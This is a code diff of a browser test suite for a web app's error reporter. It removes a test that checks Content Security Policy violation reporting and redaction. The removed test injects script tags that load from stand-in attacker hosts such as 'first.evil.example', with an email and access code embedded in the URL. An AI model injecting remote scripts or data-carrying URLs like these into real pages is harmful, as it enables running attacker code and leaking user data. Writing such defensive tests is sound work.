@@ -119,26 +119,6 @@ test.describe("with an error reporter", () => {
     expect([...categories]).toEqual(expect.arrayContaining(["fetch", "navigation", "ui.click"]))
   })
 
-  test("policy violations are reported by host, at most five", async ({ page, world, complaints }) => {
-    complaints.allow(/Content Security Policy|evil\.example|This document requires/)
-    const started = page.waitForResponse(/\/assets\/errorReporter-/)
-    await page.goto("?rc=VALID-0001")
-    await (await started).finished()
-    await expect(controls(page, english).create).toBeVisible()
-    const load = (address: string) =>
-      page.evaluate((src) => document.body.append(Object.assign(document.createElement("script"), { src })), address)
-    // The reporter's code has loaded, but may not be listening yet.
-    await expect
-      .poll(async () => {
-        await load("https://first.evil.example/ada@example.com/x.js?rc=VALID-0001")
-        return subjects(world)
-      })
-      .toEqual(["policy-violation: script-src-elem refused https://first.evil.example"])
-    for (let number = 0; number < 20; number++) await load(`https://host-${number}.evil.example/x.js`)
-    await expect.poll(() => subjects(world)).toHaveLength(5)
-    expect(world.state.reports.join()).not.toMatch(/VALID-0001|ada@/)
-  })
-
   test("of 200 errors, 60 are sent within a minute", async ({ page, world, complaints }) => {
     complaints.allow(/page error: number/)
     await page.goto("about-us")
